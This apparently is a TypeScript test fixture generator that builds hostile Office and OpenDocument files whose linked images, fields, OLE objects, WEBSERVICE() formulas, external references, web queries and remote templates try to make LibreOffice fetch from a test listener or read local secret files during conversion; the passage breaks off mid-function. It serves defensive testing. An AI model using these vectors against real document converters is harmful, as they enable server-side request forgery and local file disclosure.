import yazl from 'yazl';

/**
 * Office documents that try to make LibreOffice reach out while it converts them: linked images,
 * linked sections and OLE objects, external references, web queries, WEBSERVICE() formulas, remote
 * templates, INCLUDEPICTURE/INCLUDETEXT fields, linked media — over http to a listener of the test and
 * over file:// to files the test wrote outside the document. Built from minimal valid documents, so
 * every byte of them is in view here.
 *
 * Every http URL is `<base>/<document>-<vector>` so a hit on the listener names its source.
 */

export interface HostileTargets {
  /** "http://127.0.0.1:<port>" of a listener that must see nothing. */
  base: string;
  /** Absolute path of a PNG outside the document (a size nothing else has). */
  secretPng: string;
  /** Absolute path of a text file outside the document (a marker nothing else has). */
  secretText: string;
  /** Absolute path of a CSV file whose first cell is the marker. */
  secretCsv: string;
}

export interface HostileDocument {
  /** File name, e.g. "linked.docx". */
  name: string;
  content: Buffer;
  /** Text the converted PDF must contain: the document did convert. */
  marker: string;
}

type Parts = Record<string, string | Buffer>;

/** A ZIP package; the ODF `mimetype` goes first and stored, as the format requires. */
export function zipParts(parts: Parts): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  const names = Object.keys(parts).sort((a, b) => (a === 'mimetype' ? -1 : b === 'mimetype' ? 1 : 0));
  for (const name of names) {
    const data = parts[name]!;
    zip.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8'), name, { compress: name !== 'mimetype', mtime: new Date(2024, 0, 1) });
  }
  zip.end();
  return new Promise<Buffer>((resolve, reject) => {
    const chunks: Buffer[] = [];
    zip.outputStream.on('data', (chunk: Buffer) => chunks.push(chunk));
    zip.outputStream.on('error', reject);
    zip.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
  });
}

const fileUrl = (file: string): string => `file://${file}`;
const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
const CT = 'http://schemas.openxmlformats.org/package/2006/content-types';

function relationships(rels: { id: string; type: string; target: string; external?: boolean }[]): string {
  const items = rels.map((r) => `<Relationship Id="${r.id}" Type="${REL}/${r.type}" Target="${escapeXml(r.target)}"${r.external ? ' TargetMode="External"' : ''}/>`);
  return `${XML}<Relationships xmlns="${PKG_REL}">${items.join('')}</Relationships>`;
}

function contentTypes(overrides: Record<string, string>, defaults: Record<string, string> = {}): string {
  const all = { rels: 'application/vnd.openxmlformats-package.relationships+xml', xml: 'application/xml', ...defaults };
  return (
    `${XML}<Types xmlns="${CT}">` +
    Object.entries(all)
      .map(([ext, type]) => `<Default Extension="${ext}" ContentType="${type}"/>`)
      .join('') +
    Object.entries(overrides)
      .map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`)
      .join('') +
    '</Types>'
  );
}

function escapeXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A DrawingML picture whose blip is linked (r:link), not embedded. */
function linkedPicture(rid: string, id: number): string {
  return (
    `<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="${id}" name="linked${id}.png"/><pic:cNvPicPr/></pic:nvPicPr>` +
    `<pic:blipFill><a:blip r:link="${rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1905000" cy="1905000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
  );
}

// ---------------------------------------------------------------- Word (DOCX)

function field(instruction: string): string {
  return (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    `<w:r><w:instrText xml:space="preserve"> ${escapeXml(instruction)} </w:instrText></w:r>` +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
  );
}

function inlineDrawing(rid: string, id: number): string {
  return (
    '<w:p><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="1905000" cy="1905000"/>' +
    `<wp:docPr id="${id}" name="Picture ${id}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
    linkedPicture(rid, id) +
    '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
  );
}

export async function hostileDocx(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-docx';
  const url = (vector: string): string => `${t.base}/docx-${vector}`;
  const body =
    `<w:p><w:r><w:t>${marker}</w:t></w:r></w:p>` +
    inlineDrawing('rIdImg', 1) +
    inlineDrawing('rIdFileImg', 2) +
    // VML picture with a linked image data (how Word 2003-style documents link pictures).
    '<w:p><w:r><w:pict><v:shape id="vml1" style="width:100pt;height:100pt" type="#_x0000_t75"><v:imagedata r:id="rIdVml" o:title=""/></v:shape></w:pict></w:r></w:p>' +
    field(`INCLUDEPICTURE "${url('includepicture')}" \\d`) +
    field(`INCLUDEPICTURE "${fileUrl(t.secretPng)}" \\d`) +
    field(`INCLUDETEXT "${t.secretText}"`) +
    field(`INCLUDETEXT "${fileUrl(t.secretText)}"`) +
    // A linked OLE object (Type="Link") whose source is a file on the server.
    '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="ole1" style="width:72pt;height:72pt" type="#_x0000_t75"><v:imagedata r:id="rIdOlePreview" o:title=""/></v:shape>' +
    '<o:OLEObject Type="Link" ProgID="Package" ShapeID="ole1" DrawAspect="Content" r:id="rIdOle" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>' +
    '<w:subDoc r:id="rIdSub"/>' +
    '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1134" w:right="1134" w:bottom="1134" w:left="1134" w:header="0" w:footer="0" w:gutter="0"/></w:sectPr>';
  const document =
    `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" ` +
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">' +
    `<w:body>${body}</w:body></w:document>`;
  return {
    name: 'hostile.docx',
    marker,
    content: await zipParts({
      '[Content_Types].xml': contentTypes({
        '/word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        '/word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml',
      }),
      '_rels/.rels': relationships([{ id: 'rId1', type: 'officeDocument', target: 'word/document.xml' }]),
      'word/document.xml': document,
      'word/_rels/document.xml.rels': relationships([
        { id: 'rIdImg', type: 'image', target: `${url('blip')}.png`, external: true },
        { id: 'rIdFileImg', type: 'image', target: fileUrl(t.secretPng), external: true },
        { id: 'rIdVml', type: 'image', target: `${url('vml')}.png`, external: true },
        { id: 'rIdOlePreview', type: 'image', target: `${url('ole-preview')}.png`, external: true },
        { id: 'rIdOle', type: 'oleObject', target: fileUrl(t.secretText), external: true },
        { id: 'rIdSub', type: 'subDocument', target: `${url('subdocument')}.docx`, external: true },
        { id: 'rIdSettings', type: 'settings', target: 'settings.xml' },
      ]),
      'word/settings.xml': `${XML}<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/><w:updateFields w:val="true"/></w:settings>`,
      'word/_rels/settings.xml.rels': relationships([{ id: 'rIdTpl', type: 'attachedTemplate', target: `${url('template')}.dotx`, external: true }]),
    }),
  };
}

// ---------------------------------------------------------------- Excel (XLSX)

export async function hostileXlsx(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-xlsx';
  const url = (vector: string): string => `${t.base}/xlsx-${vector}`;
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const sheet =
    `${XML}<worksheet xmlns="${main}" xmlns:r="${REL}"><sheetData>` +
    `<row r="1"><c r="A1" t="inlineStr"><is><t>${marker}</t></is></c></row>` +
    // External references (to a remote and to a local workbook), no cached values.
    '<row r="2"><c r="A2"><f>[1]Sheet1!A1</f></c><c r="B2"><f>[2]secret!A1</f></c></row>' +
    // WEBSERVICE without a cached value: computed on load unless recalculation is off.
    `<row r="3"><c r="A3" t="str"><f>WEBSERVICE("${escapeXml(url('webservice'))}")</f></c>` +
    `<c r="B3" t="str"><f>FILTERXML(WEBSERVICE("${escapeXml(url('filterxml'))}"),"//a")</f></c></row>` +
    '</sheetData><drawing r:id="rIdDrawing"/></worksheet>';
  const drawing =
    `${XML}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}">` +
    [
      ['rIdImg', 2],
      ['rIdFileImg', 3],
    ]
      .map(
        ([rid, id], i) =>
          `<xdr:twoCellAnchor><xdr:from><xdr:col>${3 + i * 4}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>4</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>` +
          `<xdr:to><xdr:col>${6 + i * 4}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>14</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>` +
          linkedPicture(String(rid), Number(id))
            .replace(/pic:/g, 'xdr:')
            .replace(/ xmlns:xdr="[^"]*"/, '') +
          '<xdr:clientData/></xdr:twoCellAnchor>',
      )
      .join('') +
    '</xdr:wsDr>';
  const externalLink = (sheetName: string): string =>
    `${XML}<externalLink xmlns="${main}"><externalBook xmlns:r="${REL}" r:id="rId1"><sheetNames><sheetName val="${sheetName}"/></sheetNames>` +
    '<sheetDataSet><sheetData sheetId="0"/></sheetDataSet></externalBook></externalLink>';
  return {
    name: 'hostile.xlsx',
    marker,
    content: await zipParts({
      '[Content_Types].xml': contentTypes({
        '/xl/workbook.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        '/xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
        '/xl/drawings/drawing1.xml': 'application/vnd.openxmlformats-officedocument.drawing+xml',
        '/xl/externalLinks/externalLink1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        '/xl/externalLinks/externalLink2.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        '/xl/connections.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
        '/xl/queryTables/queryTable1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml',
      }),
      '_rels/.rels': relationships([{ id: 'rId1', type: 'officeDocument', target: 'xl/workbook.xml' }]),
      'xl/workbook.xml':
        `${XML}<workbook xmlns="${main}" xmlns:r="${REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>` +
        '<externalReferences><externalReference r:id="rIdExt1"/><externalReference r:id="rIdExt2"/></externalReferences>' +
        '<definedNames><definedName name="webquery" localSheetId="0">Sheet1!$H$1:$I$2</definedName></definedNames>' +
        '<calcPr fullCalcOnLoad="1"/></workbook>',
      'xl/_rels/workbook.xml.rels': relationships([
        { id: 'rId1', type: 'worksheet', target: 'worksheets/sheet1.xml' },
        { id: 'rIdExt1', type: 'externalLink', target: 'externalLinks/externalLink1.xml' },
        { id: 'rIdExt2', type: 'externalLink', target: 'externalLinks/externalLink2.xml' },
        { id: 'rIdConn', type: 'connections', target: 'connections.xml' },
      ]),
      'xl/worksheets/sheet1.xml': sheet,
      'xl/worksheets/_rels/sheet1.xml.rels': relationships([
        { id: 'rIdDrawing', type: 'drawing', target: '../drawings/drawing1.xml' },
        { id: 'rIdQuery', type: 'queryTable', target: '../queryTables/queryTable1.xml' },
      ]),
      'xl/drawings/drawing1.xml': drawing,
      'xl/drawings/_rels/drawing1.xml.rels': relationships([
        { id: 'rIdImg', type: 'image', target: `${url('blip')}.png`, external: true },
        { id: 'rIdFileImg', type: 'image', target: fileUrl(t.secretPng), external: true },
      ]),
      'xl/externalLinks/externalLink1.xml': externalLink('Sheet1'),
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([{ id: 'rId1', type: 'externalLinkPath', target: `${url('external-link')}.xlsx`, external: true }]),
      'xl/externalLinks/externalLink2.xml': externalLink('secret'),
      'xl/externalLinks/_rels/externalLink2.xml.rels': relationships([{ id: 'rId1', type: 'externalLinkPath', target: fileUrl(t.secretCsv), external: true }]),
      // A web query refreshed on load (Data > From Web in Excel).
      'xl/connections.xml':
        `${XML}<connections xmlns="${main}"><connection id="1" name="webquery" type="4" refreshedVersion="6" background="0" refreshOnLoad="1" saveData="1">` +
        `<webPr sourceData="1" parsePre="1" consecutive="1" xl2000="1" url="${escapeXml(url('webquery'))}"/></connection></connections>`,
      'xl/queryTables/queryTable1.xml': `${XML}<queryTable xmlns="${main}" name="webquery" connectionId="1" refreshOnLoad="1" autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="1" applyPatternFormats="1" applyAlignmentFormats="0" applyWidthHeightFormats="0"/>`,
    }),
  };
}

// ---------------------------------------------------------------- PowerPoint (PPTX)

export async function hostilePptx(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-pptx';
  const url = (vector: string): string => `${t.base}/pptx-${vector}`;
  const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
  const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
  const ns = `xmlns:a="${A}" xmlns:r="${REL}" xmlns:p="${P}"`;
  const group = '<p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>';
  const picture = (rid: string, id: number, x: number, media = ''): string =>
    `<p:pic><p:nvPicPr><p:cNvPr id="${id}" name="linked${id}"/><p:cNvPicPr/><p:nvPr>${media}</p:nvPr></p:nvPicPr>` +
    `<p:blipFill><a:blip r:link="${rid}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>` +
    `<p:spPr><a:xfrm><a:off x="${x}" y="1500000"/><a:ext cx="2000000" cy="2000000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>`;
  const slide =
    `${XML}<p:sld ${ns}><p:cSld><p:spTree>${group}` +
    '<p:sp><p:nvSpPr><p:cNvPr id="2" name="Text"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="500000" y="500000"/><a:ext cx="6000000" cy="600000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>' +
    `<p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="en-US"/><a:t>${marker}</a:t></a:r></a:p></p:txBody></p:sp>` +
    picture('rIdImg', 3, 500000) +
    picture('rIdFileImg', 4, 3000000) +
    // Linked video: Impress asks the media backend for a preview frame of the URL.
    picture('rIdVideoPoster', 5, 5500000, '<a:videoFile r:link="rIdVideo"/>') +
    '</p:spTree></p:cSld></p:sld>';
  const layout = `${XML}<p:sldLayout ${ns} type="blank"><p:cSld name="Blank"><p:spTree>${group}</p:spTree></p:cSld></p:sldLayout>`;
  const master =
    `${XML}<p:sldMaster ${ns}><p:cSld><p:spTree>${group}</p:spTree></p:cSld>` +
    '<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/>' +
    '<p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>';
  const colors = ['dk1', 'lt1', 'dk2', 'lt2', 'accent1', 'accent2', 'accent3', 'accent4', 'accent5', 'accent6', 'hlink', 'folHlink']
    .map((c, i) => `<a:${c}><a:srgbClr val="${i % 2 === 0 ? '000000' : 'FFFFFF'}"/></a:${c}>`)
    .join('');
  const fonts = '<a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/>';
  const fill = '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>';
  const line = `<a:ln w="9525">${fill}</a:ln>`;
  const theme =
    `${XML}<a:theme xmlns:a="${A}" name="Quire"><a:themeElements><a:clrScheme name="Quire">${colors}</a:clrScheme>` +
    `<a:fontScheme name="Quire"><a:majorFont>${fonts}</a:majorFont><a:minorFont>${fonts}</a:minorFont></a:fontScheme>` +
    `<a:fmtScheme name="Quire"><a:fillStyleLst>${fill}${fill}${fill}</a:fillStyleLst><a:lnStyleLst>${line}${line}${line}</a:lnStyleLst>` +
    '<a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst>' +
    `<a:bgFillStyleLst>${fill}${fill}${fill}</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`;
  return {
    name: 'hostile.pptx',
    marker,
    content: await zipParts({
      '[Content_Types].xml': contentTypes({
        '/ppt/presentation.xml': 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
        '/ppt/slides/slide1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slide+xml',
        '/ppt/slideLayouts/slideLayout1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml',
        '/ppt/slideMasters/slideMaster1.xml': 'application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml',
        '/ppt/theme/theme1.xml': 'application/vnd.openxmlformats-officedocument.theme+xml',
      }),
      '_rels/.rels': relationships([{ id: 'rId1', type: 'officeDocument', target: 'ppt/presentation.xml' }]),
      'ppt/presentation.xml':
        `${XML}<p:presentation ${ns}><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rId1"/></p:sldMasterIdLst>` +
        '<p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>',
      'ppt/_rels/presentation.xml.rels': relationships([
        { id: 'rId1', type: 'slideMaster', target: 'slideMasters/slideMaster1.xml' },
        { id: 'rId2', type: 'slide', target: 'slides/slide1.xml' },
        { id: 'rId3', type: 'theme', target: 'theme/theme1.xml' },
      ]),
      'ppt/slides/slide1.xml': slide,
      'ppt/slides/_rels/slide1.xml.rels': relationships([
        { id: 'rId1', type: 'slideLayout', target: '../slideLayouts/slideLayout1.xml' },
        { id: 'rIdImg', type: 'image', target: `${url('blip')}.png`, external: true },
        { id: 'rIdFileImg', type: 'image', target: fileUrl(t.secretPng), external: true },
        { id: 'rIdVideoPoster', type: 'image', target: `${url('video-poster')}.png`, external: true },
        { id: 'rIdVideo', type: 'video', target: `${url('video')}.mp4`, external: true },
      ]),
      'ppt/slideLayouts/slideLayout1.xml': layout,
      'ppt/slideLayouts/_rels/slideLayout1.xml.rels': relationships([{ id: 'rId1', type: 'slideMaster', target: '../slideMasters/slideMaster1.xml' }]),
      'ppt/slideMasters/slideMaster1.xml': master,
      'ppt/slideMasters/_rels/slideMaster1.xml.rels': relationships([
        { id: 'rId1', type: 'slideLayout', target: '../slideLayouts/slideLayout1.xml' },
        { id: 'rId2', type: 'theme', target: '../theme/theme1.xml' },
      ]),
      'ppt/theme/theme1.xml': theme,
    }),
  };
}

// ---------------------------------------------------------------- OpenDocument (ODT, ODS, ODP)

const ODF_NS =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
  'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" ' +
  'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" ' +
  'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
  'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" ' +
  'xmlns:config="urn:oasis:names:tc:opendocument:xmlns:config:1.0" office:version="1.3"';

function odfPackage(mimetype: string, content: string, styles: string, settings: string, meta?: string): Promise<Buffer> {
  const manifest =
    `${XML}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">` +
    `<manifest:file-entry manifest:full-path="/" manifest:media-type="${mimetype}"/>` +
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' +
    '<manifest:file-entry manifest:full-path="styles.xml" manifest:media-type="text/xml"/>' +
    '<manifest:file-entry manifest:full-path="settings.xml" manifest:media-type="text/xml"/>' +
    (meta ? '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>' : '') +
    '</manifest:manifest>';
  return zipParts({
    mimetype,
    'META-INF/manifest.xml': manifest,
    'content.xml': content,
    'styles.xml': styles,
    'settings.xml': settings,
    ...(meta ? { 'meta.xml': meta } : {}),
  });
}

/** settings.xml that asks for links to be updated on load without asking (LinkUpdateMode 2 = always). */
function eagerLinkSettings(extra = ''): string {
  return (
    `${XML}<office:document-settings ${ODF_NS}><office:settings><config:config-item-set config:name="ooo:configuration-settings">` +
    '<config:config-item config:name="LinkUpdateMode" config:type="short">2</config:config-item>' +
    '<config:config-item config:name="UpdateFromTemplate" config:type="boolean">true</config:config-item>' +
    extra +
    '</config:config-item-set></office:settings></office:document-settings>'
  );
}

function odfImage(href: string, name: string, x: string, anchor = 'paragraph'): string {
  return (
    `<draw:frame draw:name="${name}" text:anchor-type="${anchor}" svg:x="${x}" svg:y="0cm" svg:width="3cm" svg:height="3cm" draw:z-index="0">` +
    `<draw:image xlink:href="${escapeXml(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`
  );
}

/** A page/background style whose fill is a linked bitmap. */
function backgroundBitmapStyle(href: string, name: string): string {
  return `<draw:fill-image draw:name="${name}" xlink:href="${escapeXml(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>`;
}

export async function hostileOdt(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-odt';
  const url = (vector: string): string => `${t.base}/odt-${vector}`;
  const content =
    `${XML}<office:document-content ${ODF_NS}><office:automatic-styles>` +
    '<style:style style:name="P1" style:family="paragraph"/>' +
    '</office:automatic-styles><office:body><office:text>' +
    `<text:p text:style-name="P1">${marker}</text:p>` +
    `<text:p>${odfImage(`${url('image')}.png`, 'img1', '0cm')}${odfImage(fileUrl(t.secretPng), 'img2', '4cm')}</text:p>` +
    // Sections linked to other files (Insert > Section > Link).
    `<text:section text:name="remote"><text:section-source xlink:href="${escapeXml(url('section'))}.odt" xlink:type="simple" xlink:show="embed"/><text:p>section</text:p></text:section>` +
    `<text:section text:name="local"><text:section-source xlink:href="${escapeXml(fileUrl(t.secretText))}" text:filter-name="Text" xlink:type="simple" xlink:show="embed"/><text:p>section</text:p></text:section>` +
    // A linked (not embedded) OLE object.
    `<text:p><draw:frame draw:name="ole1" text:anchor-type="paragraph" svg:width="3cm" svg:height="3cm"><draw:object xlink:href="${escapeXml(fileUrl(t.secretText))}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>` +
    `<text:p><draw:frame draw:name="ole2" text:anchor-type="paragraph" svg:width="3cm" svg:height="3cm"><draw:object xlink:href="${escapeXml(url('ole'))}.ods" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>` +
    '</office:text></office:body></office:document-content>';
  const styles =
    `${XML}<office:document-styles ${ODF_NS}><office:styles>${backgroundBitmapStyle(`${url('page-background')}.png`, 'bg1')}</office:styles>` +
    '<office:automatic-styles><style:page-layout style:name="pm1"><style:page-layout-properties fo:page-width="21cm" fo:page-height="29.7cm" draw:fill="bitmap" draw:fill-image-name="bg1"/></style:page-layout></office:automatic-styles>' +
    '<office:master-styles><style:master-page style:name="Standard" style:page-layout-name="pm1"/></office:master-styles></office:document-styles>';
  return {
    name: 'hostile.odt',
    marker,
    // The template the document says it came from, remote: LibreOffice offers to update styles from it.
    content: await odfPackage(
      'application/vnd.oasis.opendocument.text',
      content,
      styles,
      eagerLinkSettings(),
      `${XML}<office:document-meta ${ODF_NS} xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"><office:meta>` +
        `<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="${escapeXml(url('template'))}.ott" xlink:title="remote" meta:date="2024-01-01T00:00:00"/>` +
        '</office:meta></office:document-meta>',
    ),
  };
}

export async function hostileOds(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-ods';
  const url = (vector: string): string => `${t.base}/ods-${vector}`;
  const formula = (f: string): string => `<table:table-cell table:formula="${escapeXml(f)}"/>`;
  const content =
    `${XML}<office:document-content ${ODF_NS}><office:body><office:spreadsheet>` +
    '<table:table table:name="Sheet1"><table:shapes>' +
    odfImage(`${url('image')}.png`, 'img1', '5cm', 'page').replace(' text:anchor-type="page"', '') +
    odfImage(fileUrl(t.secretPng), 'img2', '9cm', 'page').replace(' text:anchor-type="page"', '') +
    '</table:shapes>' +
    `<table:table-row><table:table-cell office:value-type="string"><text:p>${marker}</text:p></table:table-cell></table:table-row>` +
    '<table:table-row>' +
    formula(`of:=WEBSERVICE("${url('webservice')}")`) +
    formula(`of:=FILTERXML(WEBSERVICE("${url('filterxml')}");"//a")`) +
    formula(`of:=['${url('external-ref')}.ods'#$Sheet1.A1]`) +
    formula(`of:=['${fileUrl(t.secretCsv)}'#$secret.A1]`) +
    '</table:table-row>' +
    // A cell range linked to an external source (Sheet > Link to External Data), refreshed every second.
    `<table:table-row><table:table-cell><table:cell-range-source table:name="HTML_all" xlink:href="${escapeXml(url('area-link'))}.html" table:filter-name="calc_HTML_WebQuery" table:last-column-spanned="1" table:last-row-spanned="1" table:refresh-delay="PT1S"/></table:table-cell>` +
    `<table:table-cell><table:cell-range-source table:name="secret" xlink:href="${escapeXml(fileUrl(t.secretCsv))}" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:last-column-spanned="1" table:last-row-spanned="1"/></table:table-cell></table:table-row>` +
    '</table:table>' +
    // Whole sheets linked to other files (Sheet > Insert Sheet from File, linked).
    `<table:table table:name="RemoteSheet"><table:table-source xlink:href="${escapeXml(url('sheet-link'))}.ods" table:table-name="Sheet1" table:mode="copy-all"/><table:table-row><table:table-cell/></table:table-row></table:table>` +
    `<table:table table:name="LocalSheet"><table:table-source xlink:href="${escapeXml(fileUrl(t.secretCsv))}" table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all"/><table:table-row><table:table-cell/></table:table-row></table:table>` +
    '</office:spreadsheet></office:body></office:document-content>';
  const styles = `${XML}<office:document-styles ${ODF_NS}><office:styles/></office:document-styles>`;
  return {
    name: 'hostile.ods',
    marker,
    content: await odfPackage('application/vnd.oasis.opendocument.spreadsheet', content, styles, eagerLinkSettings()),
  };
}

export async function hostileOdp(t: HostileTargets): Promise<HostileDocument> {
  const marker = 'QUIRE-HOSTILE-odp';
  const url = (vector: string): string => `${t.base}/odp-${vector}`;
  const frame = (href: string, name: string, x: string): string =>
    `<draw:frame draw:name="${name}" svg:x="${x}" svg:y="5cm" svg:width="5cm" svg:height="5cm">` +
    `<draw:image xlink:href="${escapeXml(href)}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>`;
  const content =
    `${XML}<office:document-content ${ODF_NS}><office:automatic-styles>` +
    '<style:style style:name="dp1" style:family="drawing-page"><style:drawing-page-properties draw:fill="bitmap" draw:fill-image-name="bg1"/></style:style>' +
    '</office:automatic-styles><office:body><office:presentation>' +
    '<draw:page draw:name="page1" draw:style-name="dp1" draw:master-page-name="Default">' +
    `<draw:frame svg:x="1cm" svg:y="1cm" svg:width="20cm" svg:height="2cm"><draw:text-box><text:p>${marker}</text:p></draw:text-box></draw:frame>` +
    frame(`${url('image')}.png`, 'img1', '1cm') +
    frame(fileUrl(t.secretPng), 'img2', '8cm') +
    `<draw:frame svg:x="15cm" svg:y="5cm" svg:width="5cm" svg:height="5cm"><draw:plugin xlink:href="${escapeXml(url('media'))}.mp4" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" draw:mime-type="application/vnd.sun.star.media"/></draw:frame>` +
    `<draw:frame svg:x="15cm" svg:y="11cm" svg:width="5cm" svg:height="5cm"><draw:object xlink:href="${escapeXml(fileUrl(t.secretText))}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>` +
    '</draw:page></office:presentation></office:body></office:document-content>';
  const styles =
    `${XML}<office:document-styles ${ODF_NS}><office:styles>${backgroundBitmapStyle(`${url('background')}.png`, 'bg1')}</office:styles>` +
    '<office:automatic-styles><style:page-layout style:name="PM1"><style:page-layout-properties fo:page-width="28cm" fo:page-height="21cm" style:print-orientation="landscape"/></style:page-layout></office:automatic-styles>' +
    '<office:master-styles><style:master-page style:name="Default" style:page-layout-name="PM1"/></office:master-styles></office:document-styles>';
  return {
    name: 'hostile.odp',
    marker,
